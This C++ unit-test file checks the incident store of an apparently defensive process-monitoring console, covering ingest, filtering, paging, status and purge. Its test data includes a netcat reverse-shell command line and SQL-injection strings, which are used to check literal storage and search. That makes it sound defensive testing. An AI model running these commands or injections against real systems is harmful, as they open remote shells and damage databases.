// SPDX-License-Identifier: GPL-2.0
// Incidents: ingest and de-duplication, every list filter alone and combined (checked against a
// plain in-memory model of the same rows), keyset paging, status, purge, hostile text.
#include <algorithm>
#include <random>
#include <set>

#include "store/store_fixture.hpp"

namespace procsentry::console::store::test {
namespace {

class IncidentStoreTest : public StoreTest {};
PROCSENTRY_STORE_BACKENDS(IncidentStoreTest);

std::string lower(std::string s) {
    for (auto& c : s) {
        if (c >= 'A' && c <= 'Z') {
            c = static_cast<char>(c - 'A' + 'a');
        }
    }
    return s;
}

bool contains(const std::string& hay, const std::string& needle) {
    return lower(hay).find(lower(needle)) != std::string::npos;
}

template <typename T>
bool any_of_or_empty(const std::vector<T>& v, const T& x) {
    return v.empty() || std::find(v.begin(), v.end(), x) != v.end();
}

// The meaning of IncidentFilter, written the obvious way.
bool matches(const IncidentFilter& f, const IncidentRow& r) {
    return any_of_or_empty(f.host_ids, r.host_id) && (!f.min_severity || r.severity >= *f.min_severity) &&
           any_of_or_empty(f.severities, r.severity) && any_of_or_empty(f.rule_types, r.rule_type) &&
           any_of_or_empty(f.kinds, r.kind) && (!f.outcome || r.outcome == *f.outcome) &&
           any_of_or_empty(f.statuses, r.status) && (!f.since || r.time >= *f.since) &&
           (!f.until || r.time < *f.until) &&
           (f.text.empty() || contains(r.summary, f.text) || contains(r.command, f.text) ||
            contains(r.exe, f.text) || contains(r.user, f.text) || contains(r.rule_name, f.text) ||
            contains(r.host_name, f.text));
}

std::vector<int64_t> expected_ids(const std::vector<IncidentRow>& all, const IncidentFilter& f) {
    std::vector<IncidentRow> m;
    for (const auto& r : all) {
        if (matches(f, r)) {
            m.push_back(r);
        }
    }
    std::sort(m.begin(), m.end(), [](const auto& a, const auto& b) {
        return a.time != b.time ? a.time > b.time : a.id > b.id;
    });
    std::vector<int64_t> ids;
    for (const auto& r : m) {
        ids.push_back(r.id);
    }
    return ids;
}

std::vector<int64_t> all_pages(Store& s, const IncidentFilter& f, int limit) {
    std::vector<int64_t> ids;
    std::optional<IncidentCursor> cur;
    for (int guard = 0; guard < 10000; ++guard) {
        auto page = s.list_incidents(f, cur, limit);
        EXPECT_LE(static_cast<int>(page.items.size()), limit);
        for (const auto& r : page.items) {
            ids.push_back(r.id);
        }
        if (!page.next) {
            break;
        }
        EXPECT_EQ(page.items.size(), static_cast<size_t>(limit));
        cur = page.next;
    }
    return ids;
}

// A varied data set: 3 hosts, every severity, kind, outcome and status, colliding times.
std::vector<IncidentRow> fill(Store& s, const std::vector<int64_t>& hosts, int n) {
    std::mt19937 rng(42);
    const char* types[] = {"bin-execution", "root-escalation", "termination-failure", ""};
    const char* kinds[] = {"rule", "sensor", "summary"};
    const char* outcomes[] = {"success", "failure", ""};
    const char* cmds[] = {"bash -c id", "curl http://x/100%_done", "Python3 -m http.server", "sudo su -",
                          "/tmp/.hidden \"quoted\" 'single'", "nc -e /bin/sh 10.0.0.1 4444"};
    const char* users[] = {"root", "alice", "Bob_Admin", "1000"};
    std::vector<IncidentRow> rows;
    for (int i = 0; i < n; ++i) {
        auto h = hosts[rng() % hosts.size()];
        auto r = incident(h, "a-" + std::to_string(i), 1'000'000 + static_cast<TimeNs>(rng() % 400) * 1000);
        r.severity = static_cast<int>(rng() % 5);
        r.rule_type = types[rng() % 4];
        r.rule_name = r.rule_type.empty() ? "" : "rule-" + r.rule_type;
        r.kind = kinds[rng() % 3];
        r.outcome = outcomes[rng() % 3];
        r.command = cmds[rng() % 6];
        r.exe = "/usr/bin/" + r.command.substr(0, r.command.find(' '));
        r.user = users[rng() % 4];
        r.summary = "event " + std::to_string(i) + (i % 50 == 0 ? " RareMarker" : "");
        r.status = static_cast<IncidentStatus>(rng() % 3);
        rows.push_back(r);
    }
    for (size_t i = 0; i < rows.size(); i += 97) {
        std::vector<IncidentRow> batch(rows.begin() + static_cast<long>(i),
                                       rows.begin() + static_cast<long>(std::min(rows.size(), i + 97)));
        auto res = s.ingest(batch);
        EXPECT_EQ(res.accepted, static_cast<int>(batch.size()));
    }
    // Learn the ids the store assigned (alert ids are unique per host).
    for (auto& r : rows) {
        IncidentFilter f;
        f.host_ids = {r.host_id};
        f.since = r.time;
        f.until = r.time + 1;
        for (const auto& got : s.list_incidents(f, std::nullopt, 500).items) {
            if (got.alert_id == r.alert_id) {
                r.id = got.id;
            }
        }
        EXPECT_NE(r.id, 0);
    }
    return rows;
}

TEST_P(IncidentStoreTest, IngestCountsDuplicatesWithinAndAcrossBatches) {
    auto h1 = host("a");
    auto h2 = host("b");
    auto r = store_->ingest({incident(h1, "x", 10), incident(h1, "y", 11), incident(h1, "x", 12),
                             incident(h2, "x", 13)});
    EXPECT_EQ(r.accepted, 3);
    EXPECT_EQ(r.duplicates, 1);
    EXPECT_EQ(r.last_id, store_->last_incident_id());
    auto r2 = store_->ingest({incident(h1, "y", 99), incident(h2, "z", 14)});
    EXPECT_EQ(r2.accepted, 1);
    EXPECT_EQ(r2.duplicates, 1);
    EXPECT_GT(r2.last_id, r.last_id);
    EXPECT_EQ(store_->count_incidents(), 4);
    // The duplicate did not overwrite the first copy.
    IncidentFilter f;
    f.host_ids = {h1};
    auto page = store_->list_incidents(f, std::nullopt, 50);
    ASSERT_EQ(page.items.size(), 2u);
    EXPECT_EQ(page.items[0].alert_id, "y");
    EXPECT_EQ(page.items[0].time, 11);
    EXPECT_TRUE(page.items[0].raw_json.empty());
    EXPECT_EQ(store_->ingest({}).accepted, 0);
}

TEST_P(IncidentStoreTest, IngestIntoUnknownHostFailsAndKeepsNothing) {
    auto h = host();
    EXPECT_THROW(store_->ingest({incident(h, "ok", 1), incident(h + 1000, "bad", 2)}), StoreError);
    EXPECT_EQ(store_->count_incidents(), 0);  // one transaction per batch
}

TEST_P(IncidentStoreTest, GetIncidentRoundTripsEveryFieldAndTheRawLine) {
    auto h = host();
    auto in = incident(h, "id-\"'\\%_", 123456789012345678);
    in.host_name = "hôst-ü";
    in.kind = "sensor";
    in.severity = 4;
    in.rule_name = "r'\"; DROP TABLE incidents; --";
    in.rule_type = "root-escalation";
    in.outcome = "failure";
    in.exe = "/bin/\xe2\x98\x83";
    in.command = std::string("a\tb\nc \x7f \xf0\x9f\x92\xa9");
    in.user = "O'Brien";
    in.summary = "100% _under_ \\back";
    in.status = IncidentStatus::acknowledged;
    in.status_by = "ops";
    in.status_time = 77;
    in.status_comment = "ok";
    in.raw_json = std::string(60000, 'x');
    auto res = store_->ingest({in});
    ASSERT_EQ(res.accepted, 1);
    auto got = store_->get_incident(res.last_id);
    ASSERT_TRUE(got);
    EXPECT_EQ(got->id, res.last_id);
    EXPECT_EQ(got->host_id, h);
    EXPECT_EQ(got->host_name, in.host_name);
    EXPECT_EQ(got->alert_id, in.alert_id);
    EXPECT_EQ(got->time, in.time);
    EXPECT_EQ(got->received, in.received);
    EXPECT_EQ(got->kind, in.kind);
    EXPECT_EQ(got->severity, 4);
    EXPECT_EQ(got->rule_name, in.rule_name);
    EXPECT_EQ(got->rule_type, in.rule_type);
    EXPECT_EQ(got->outcome, in.outcome);
    EXPECT_EQ(got->exe, in.exe);
    EXPECT_EQ(got->command, in.command);
    EXPECT_EQ(got->user, in.user);
    EXPECT_EQ(got->summary, in.summary);
    EXPECT_EQ(got->status, IncidentStatus::acknowledged);
    EXPECT_EQ(got->status_by, "ops");
    EXPECT_EQ(got->status_time, 77);
    EXPECT_EQ(got->status_comment, "ok");
    EXPECT_EQ(got->raw_json, in.raw_json);
    EXPECT_FALSE(store_->get_incident(res.last_id + 1));
    EXPECT_FALSE(store_->get_incident(-1));
}

TEST_P(IncidentStoreTest, EveryFilterAloneAndCombinedMatchesTheModel) {
    auto h1 = host("alpha");
    auto h2 = host("beta");
    auto h3 = host("gamma");
    auto rows = fill(*store_, {h1, h2, h3}, 700);
    std::vector<IncidentFilter> filters;
    auto add = [&](auto fn) {
        IncidentFilter f;
        fn(f);
        filters.push_back(f);
    };
    add([](IncidentFilter&) {});
    add([&](IncidentFilter& f) { f.host_ids = {h2}; });
    add([&](IncidentFilter& f) { f.host_ids = {h1, h3}; });
    add([&](IncidentFilter& f) { f.host_ids = {h1, h1, 9999}; });
    add([](IncidentFilter& f) { f.severities = {3}; });
    add([](IncidentFilter& f) { f.severities = {0, 4}; });
    add([](IncidentFilter& f) { f.min_severity = 3; });
    add([](IncidentFilter& f) { f.min_severity = 0; });
    add([](IncidentFilter& f) { f.min_severity = 5; });
    add([](IncidentFilter& f) {
        f.min_severity = 2;
        f.severities = {1, 2, 4};
    });
    add([](IncidentFilter& f) { f.rule_types = {"root-escalation"}; });
    add([](IncidentFilter& f) { f.rule_types = {"bin-execution", "termination-failure"}; });
    add([](IncidentFilter& f) { f.kinds = {"sensor"}; });
    add([](IncidentFilter& f) { f.kinds = {"rule", "summary"}; });
    add([](IncidentFilter& f) { f.outcome = "failure"; });
    add([](IncidentFilter& f) { f.outcome = ""; });
    add([](IncidentFilter& f) { f.statuses = {IncidentStatus::false_positive}; });
    add([](IncidentFilter& f) { f.statuses = {IncidentStatus::open, IncidentStatus::acknowledged}; });
    add([](IncidentFilter& f) { f.since = 1'100'000; });
    add([](IncidentFilter& f) { f.until = 1'100'000; });
    add([](IncidentFilter& f) {
        f.since = 1'100'000;
        f.until = 1'200'000;
    });
    for (const char* q : {"bash", "BASH", "raremarker", "100%", "%", "_", "_done", "bob_", "b_b", "\"quoted\"",
                          "'single'", "o", "id", "gamma", "rule-root", "/usr/bin/nc", "nothing-like-this",
                          "10.0.0.1", "event 1 "}) {
        add([&](IncidentFilter& f) { f.text = q; });
    }
    add([&](IncidentFilter& f) {
        f.host_ids = {h1, h2};
        f.min_severity = 2;
        f.kinds = {"rule"};
        f.text = "sh";
    });
    add([&](IncidentFilter& f) {
        f.host_ids = {h3};
        f.rule_types = {"bin-execution", "root-escalation"};
        f.outcome = "success";
        f.statuses = {IncidentStatus::open};
        f.since = 1'050'000;
        f.until = 1'300'000;
    });
    add([&](IncidentFilter& f) {
        f.severities = {1, 2};
        f.statuses = {IncidentStatus::open, IncidentStatus::false_positive};
        f.text = "python";
    });
    add([&](IncidentFilter& f) {
        f.min_severity = 4;
        f.text = "RareMarker";
        f.kinds = {"rule", "sensor", "summary"};
    });
    for (size_t i = 0; i < filters.size(); ++i) {
        auto want = expected_ids(rows, filters[i]);
        EXPECT_EQ(all_pages(*store_, filters[i], 500), want) << "filter #" << i << " text=" << filters[i].text;
        EXPECT_EQ(all_pages(*store_, filters[i], 37), want) << "paged, filter #" << i;
    }
}

TEST_P(IncidentStoreTest, NonAsciiTextIsFoundCaseInsensitively) {
    auto h = host();
    auto a = incident(h, "a", 1);
    a.summary = "Zugriff auf Größe";
    auto b = incident(h, "b", 2);
    b.command = "echo ☃☃☃ snow";
    store_->ingest({a, b});
    IncidentFilter f;
    f.text = "größe";
    auto p = store_->list_incidents(f, std::nullopt, 10);
    ASSERT_EQ(p.items.size(), 1u);
    EXPECT_EQ(p.items[0].alert_id, "a");
    f.text = "☃☃☃";
    p = store_->list_incidents(f, std::nullopt, 10);
    ASSERT_EQ(p.items.size(), 1u);
    EXPECT_EQ(p.items[0].alert_id, "b");
    f.text = "AUF GR";
    EXPECT_EQ(store_->list_incidents(f, std::nullopt, 10).items.size(), 1u);
}

TEST_P(IncidentStoreTest, TextWithQuerySyntaxIsLiteral) {
    auto h = host();
    store_->ingest({incident(h, "a", 1)});
    for (const char* q : {"\"", "\"\"\"", "bash*", "bash OR x", "NEAR(bash id)", "-bash", "summary:bash", "^bash",
                          "bash\\", "'); DROP TABLE incidents; --", "\\%", "[a-z]", "x\x1f" "y"}) {
        IncidentFilter f;
        f.text = q;
        EXPECT_NO_THROW(EXPECT_TRUE(store_->list_incidents(f, std::nullopt, 10).items.empty()) << q) << q;
    }
    EXPECT_EQ(store_->count_incidents(), 1);
}

TEST_P(IncidentStoreTest, PagingIsStableWhileIncidentsArrive) {
    auto h = host();
    std::vector<IncidentRow> first;
    for (int i = 0; i < 100; ++i) {
        first.push_back(incident(h, "o" + std::to_string(i), 1000 + (i / 3)));  // ties on time
    }
    store_->ingest(first);
    std::vector<int64_t> seen;
    std::optional<IncidentCursor> cur;
    int round = 0;
    TimeNs last_time = INT64_MAX;
    int64_t last_id = INT64_MAX;
    do {
        auto page = store_->list_incidents({}, cur, 9);
        for (const auto& r : page.items) {
            EXPECT_TRUE(r.time < last_time || (r.time == last_time && r.id < last_id));
            last_time = r.time;
            last_id = r.id;
            if (r.alert_id[0] == 'o') {
                seen.push_back(r.id);
            }
        }
        cur = page.next;
        // Newer incidents arrive between pages; they belong above the cursor.
        ++round;
        store_->ingest({incident(h, "n" + std::to_string(round), 5000 + round)});
    } while (cur);
    std::set<int64_t> unique(seen.begin(), seen.end());
    EXPECT_EQ(seen.size(), 100u);
    EXPECT_EQ(unique.size(), 100u);
}

TEST_P(IncidentStoreTest, LimitIsClampedAndNextIsSetOnlyWhenMoreRowsExist) {
    auto h = host();
    std::vector<IncidentRow> rows;
    for (int i = 0; i < 5; ++i) {
        rows.push_back(incident(h, std::to_string(i), i));
    }
    store_->ingest(rows);
    auto p = store_->list_incidents({}, std::nullopt, 5);
    EXPECT_EQ(p.items.size(), 5u);
    EXPECT_FALSE(p.next);
    p = store_->list_incidents({}, std::nullopt, 4);
    ASSERT_TRUE(p.next);
    EXPECT_EQ(p.next->time, 1);
    p = store_->list_incidents({}, std::nullopt, 0);
    EXPECT_EQ(p.items.size(), 1u);
    p = store_->list_incidents({}, std::nullopt, -5);
    EXPECT_EQ(p.items.size(), 1u);
    p = store_->list_incidents({}, IncidentCursor{INT64_MIN, 0}, 10);
    EXPECT_TRUE(p.items.empty());
}

TEST_P(IncidentStoreTest, StatusChangesAreStoredAndFiltered) {
    auto h = host();
    auto res = store_->ingest({incident(h, "a", 1), incident(h, "b", 2)});
    int64_t id = res.last_id;
    EXPECT_TRUE(store_->set_incident_status(id, IncidentStatus::false_positive, "alice", 42, "benign \"cron\""));
    EXPECT_FALSE(store_->set_incident_status(id + 100, IncidentStatus::acknowledged, "alice", 42, ""));
    auto got = store_->get_incident(id);
    ASSERT_TRUE(got);
    EXPECT_EQ(got->status, IncidentStatus::false_positive);
    EXPECT_EQ(got->status_by, "alice");
    EXPECT_EQ(got->status_time, 42);
    EXPECT_EQ(got->status_comment, "benign \"cron\"");
    IncidentFilter f;
    f.statuses = {IncidentStatus::open};
    auto p = store_->list_incidents(f, std::nullopt, 10);
    ASSERT_EQ(p.items.size(), 1u);
    EXPECT_EQ(p.items[0].alert_id, "a");
    EXPECT_TRUE(store_->set_incident_status(id, IncidentStatus::open, "bob", 43, ""));
    EXPECT_EQ(store_->list_incidents(f, std::nullopt, 10).items.size(), 2u);
}

TEST_P(IncidentStoreTest, PurgeRemovesTheOldestUpToTheLimit) {
    auto h = host();
    std::vector<IncidentRow> rows;
    for (int i = 0; i < 10; ++i) {
        rows.push_back(incident(h, std::to_string(i), 100 + i));
    }
    auto res = store_->ingest(rows);
    EXPECT_EQ(store_->purge_incidents_before(105, 3), 3);
    EXPECT_EQ(store_->count_incidents(), 7);
    EXPECT_EQ(store_->purge_incidents_before(105, 100), 2);
    EXPECT_EQ(store_->purge_incidents_before(105, 100), 0);
    EXPECT_EQ(store_->purge_incidents_before(1000, 0), 0);
    auto p = store_->list_incidents({}, std::nullopt, 50);
    ASSERT_EQ(p.items.size(), 5u);
    EXPECT_EQ(p.items.back().time, 105);
    EXPECT_EQ(store_->last_incident_id(), res.last_id);
    // Purged text is gone from the text index too.
    IncidentFilter f;
    f.text = "bash";
    EXPECT_EQ(all_pages(*store_, f, 50).size(), 5u);
    // An alert id purged can be stored again (dedup is over stored incidents).
    EXPECT_EQ(store_->ingest({incident(h, "0", 100)}).accepted, 1);
}

}  // namespace
}  // namespace procsentry::console::store::test
